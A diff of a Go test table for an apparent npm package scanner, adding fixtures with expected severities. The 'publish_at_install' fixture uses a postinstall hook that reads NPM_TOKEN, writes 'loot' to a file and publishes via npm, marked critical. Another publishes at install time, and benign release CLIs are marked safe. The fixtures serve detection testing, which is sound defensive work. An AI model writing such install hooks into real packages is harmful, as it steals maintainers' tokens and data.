@@ -22,5 +22,13 @@ fs.writeFileSync("package.json", JSON.stringify(pkg)); execSync("npm publish")`}
 const pkg = JSON.parse(fs.readFileSync("package.json")); pkg.version = next;
 fs.writeFileSync("package.json", JSON.stringify(pkg, null, 2)); exec("npm publish")`}, finding.SeverityNone},
 		{"release_tool", map[string]string{"index.js": `if (!process.env.NPM_TOKEN) throw new Error("set NPM_TOKEN"); exec("npm publish")`}, finding.SeverityNone},
+		// install-time code publishing with the token it read, npm's
+		// arguments passed through a helper
+		{"publish_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
+			"s.js": `const { execFileSync } = require("child_process"); const run = (a, o) => execFileSync("npm", a, o); const t = process.env.NPM_TOKEN; require("fs").writeFileSync(dir + "/data.txt", loot); run(["publish", "--access", "public"], { cwd: dir })`}, finding.SeverityCritical},
+		{"publish_at_install_no_token", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
+			"s.js": `require("child_process").execSync("npm publish")`}, finding.SeverityHigh},
+		// a release CLI passing "publish" to npm when the user runs it
+		{"release_cli_argv", map[string]string{"cli.js": `const { execFileSync } = require("child_process"); if (!process.env.NPM_TOKEN) throw new Error("set NPM_TOKEN"); execFileSync("npm", ["publish", "--tag", tag])`}, finding.SeverityNone},
 	})
 }
